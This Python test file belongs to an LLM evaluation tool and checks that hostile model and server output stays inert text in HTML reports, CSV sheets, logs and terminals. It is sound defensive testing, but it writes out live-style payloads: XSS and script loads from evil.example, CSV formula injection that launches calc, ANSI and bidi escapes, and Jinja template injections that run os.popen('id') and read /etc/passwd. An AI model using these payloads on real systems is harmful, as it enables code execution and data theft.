"""What models and servers say is text wherever it is shown: it runs nothing, loads nothing, moves no cursor and reorders nothing."""

from __future__ import annotations

import logging
import re
import time
from contextlib import suppress
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

from contextrot import secrets
from contextrot.errors import RequestError
from contextrot.jobs.reporting import reporting_errors
from contextrot.judging.labels import write_label_sheet
from contextrot.matching.match import match
from contextrot.printable import as_cell, printable
from contextrot.records import Judgement, Sample, read_responses, write_table
from contextrot.report.captions import Facts
from contextrot.report.failures import list_failures, write_failures_page
from contextrot.samples.chat_templates import TemplateRenderer
from tests.client_session import Session, model_at
from tests.experiment_files import write_experiment
from tests.scripted_server import Act, ScriptedServer, error

HOSTILE = {
    "html": '<img src="http://evil.example/x" onerror="alert(1)"><b>bold',
    "script": "</td></table></script><script src=//evil.example/x.js>alert(1)</script>",
    "style": "<style>@import url(http://evil.example/x.css);</style><link rel=stylesheet href=//evil.example>",
    "template": "{{ 7 * 7 }}{% raw %} `x <http://evil.example>`_ |bar|",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x9b31m",
    "nul": "a\x00b\x00",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tab": "\t=1+1",
    "right to left": "user\u202etxt.exe\u2066 x \u200f(",
    "carriage": "good\rbad\b\b\b",
    "line ends": "a\u2028b\u2029c\r\nd",
    "surrogate": "half \ud83d of one",
    "long": "=x<i>" * 1_000_000,
}
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
FACTS = Facts(model="M", experiment="E", question="", tier="test", engine="e", judge="match", note="", shows={}, scores="")


class Page(HTMLParser):
    """The tags of a page with what they would load, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loads: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.loads += [
            value or "" for name, value in attributes if name in ("src", "href", "action", "srcset") or name.startswith("on")
        ]

    def handle_data(self, data):
        self.text += data


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """One experiment whose answers are hostile, as a real server gave them and the store kept them."""
    folder = tmp_path_factory.mktemp("hostile")
    with ScriptedServer(lambda prompt, before: Act(text=HOSTILE[prompt], stream=prompt != "surrogate")) as server:
        session = Session(folder, model_at(server))
        session.ask(*HOSTILE)
        responses = session.ask(*HOSTILE)  # from the store
        assert server.counts.total() == len(HOSTILE)
    for name, response in zip(HOSTILE, responses, strict=True):
        response.sample_id = name
    samples = [
        Sample(name, [{"role": "user", "content": text[:2000]}], [text[:2000]], 9, 5, condition={"kind": text[:40]})
        for name, text in HOSTILE.items()
        if name != "surrogate"
    ] + [Sample("surrogate", [{"role": "user", "content": "x"}], ["x"], 9, 5, condition={"kind": "x"})]
    judgements = {"match": [Judgement(r.sample_id, 0, 0, "match", False, (r.text or "")[:500]) for r in responses]}
    rows = [
        {"sample_id": r.sample_id, "turn": 0, "outcome": r.outcome, "score": 0.0, "unjudged": False, "kind": s.condition["kind"]}
        for r, s in zip(responses, samples, strict=True)
    ]
    return write_experiment(folder, samples, responses, judgements, rows)


def test_every_answer_is_kept_as_it_was(files):
    kept = {response.sample_id: response.text for response in read_responses(files[1])}
    for name, text in HOSTILE.items():
        if name != "surrogate":
            assert kept[name].strip() == text.strip()
    assert kept["surrogate"].encode()


def test_a_page_shows_hostile_answers_as_text_and_loads_nothing(files, tmp_path):
    page = tmp_path / "failures.html"
    write_failures_page(list_failures(*files), files[3], replace(FACTS, model=HOSTILE["script"]), page)
    content = page.read_text(encoding="utf-8")
    found = Page(content)
    assert not found.tags & {"img", "link", "iframe", "object", "b", "i"}
    assert found.loads == []
    assert content.count("<script") == 1
    assert "default-src 'none'" in content
    assert "alert(1)" in found.text
    assert r"\x1b[31mred" in found.text and r"\x00" in found.text and r"\u202e" in found.text
    assert not ACTING.search(content.replace("\n", ""))
    assert len(content) < 1_000_000


def test_a_sheet_to_label_hostile_answers_on_acts_nowhere(files, tmp_path):
    sheet, page = tmp_path / "answers.csv", tmp_path / "answers.html"
    titles = (HOSTILE["script"], HOSTILE["template"])
    write_label_sheet(*files[:2], files[2][0], sheet, page, titles, 50, np.random.default_rng(1))
    read = pd.read_csv(sheet)
    assert len(read) == len(HOSTILE)
    assert not read["answer"].str.match(r"\s*[=+@|-]").any()
    assert not ACTING.search(sheet.read_bytes().decode().replace("\r\n", ""))
    content = page.read_text(encoding="utf-8")
    found = Page(content)
    assert not found.tags & {"img", "iframe", "object", "b", "i"}
    assert set(found.loads) <= {"data:,"}
    assert "alert(1)" in content and not ACTING.search(content.replace("\n", ""))


def test_no_cell_of_a_csv_file_is_a_formula_or_acts(tmp_path):
    told = {name: text[:200] for name, text in HOSTILE.items() if name != "surrogate"}
    write_table(tmp_path / "x.csv", pd.DataFrame({"name": list(told), "text": list(told.values()), "value": -1.5}))
    content = (tmp_path / "x.csv").read_bytes().decode()
    assert not ACTING.search(content)
    read = pd.read_csv(tmp_path / "x.csv")
    assert len(read) == len(told)
    assert not read["text"].str.match(r"\s*[=+@|-]").any()
    assert (read["value"] == -1.5).all()


@pytest.mark.parametrize("text", ["-5", "+3.5", "-1e-3", "-inf", "plain", "a=b", "", "-12%"])
def test_numbers_and_plain_words_stay_what_they_are_in_a_csv_file(text):
    assert as_cell(text) == text


@pytest.mark.parametrize("text", ["Über", "你好 🙂", "مرحبا بالعالم", "नमस्ते", "a\tb\nc", "e\u0301"])
def test_the_worlds_writing_is_shown_as_it_is(text):
    assert printable(text) == text


@pytest.mark.parametrize("name", HOSTILE)
def test_no_error_moves_the_cursor_of_the_terminal_or_of_a_reader_of_the_log(name, tmp_path, capsys):
    logging.root.handlers, before = [], logging.root.handlers
    try:
        with pytest.raises(SystemExit), reporting_errors(tmp_path / "log"):
            raise RequestError(f"the server said {HOSTILE[name][:500]}")
    finally:
        for handler in logging.root.handlers:
            handler.close()
        logging.root.handlers = before
    said = capsys.readouterr().err
    assert "the server said" in said
    assert not ACTING.search(said)
    assert not ACTING.search((tmp_path / "log").read_text(encoding="utf-8"))


def test_a_traceback_moves_no_cursor(capsys):
    failure = ValueError(HOSTILE["ansi"])
    secrets.print_clean_traceback(ValueError, failure, None)
    assert not ACTING.search(capsys.readouterr().err)


@pytest.mark.parametrize("name", ["ansi", "right to left", "carriage", "nul"])
def test_what_a_server_says_while_it_is_waited_for_moves_no_cursor(name, tmp_path, capsys):
    with ScriptedServer(lambda *_: error(503, HOSTILE[name])) as server:
        session = Session(tmp_path, model_at(server), max_attempts=1, retry_deadline_seconds=0.2, allow_failed=True)
        session.ask("q")
    said = capsys.readouterr()
    assert not ACTING.search(said.out + said.err)


def test_an_export_for_inspect_takes_hostile_answers(files, tmp_path):
    inspect = pytest.importorskip("inspect_ai.log")
    from contextrot.report.inspect_log import export_inspect_log

    export_inspect_log(*files, "niah", "m", tmp_path / "inspect.eval")
    read = {sample.id: sample.output.completion for sample in inspect.read_eval_log(str(tmp_path / "inspect.eval")).samples}
    assert read["script"] == HOSTILE["script"]
    assert len(read["long"]) == len(HOSTILE["long"])


@pytest.mark.parametrize("part", ["=x<i>", "a", "1 ", "(", "no ", "1. 2. 3. ", "-1 ", "minus 1, ", "a b of c. "])
def test_a_very_long_answer_is_judged_in_time_that_grows_with_its_length(part):
    begin = time.process_time()
    match("the spare key is under the pot", part * (300_000 // len(part)), "Where is the spare key?")
    assert time.process_time() - begin < 15


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ messages.__init__.__globals__ }}",
        "{% for i in range(100000000) %}{% for j in range(100000000) %}x{% endfor %}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    ],
)
def test_a_chat_template_reaches_nothing_outside_itself(template):
    with suppress(Exception):  # any refusal will do
        text = TemplateRenderer(template, {}).render([{"role": "user", "content": "x"}])
        pytest.fail(text) if re.search(r"<class|root:|uid=|__builtins__|xxxx", text) else None
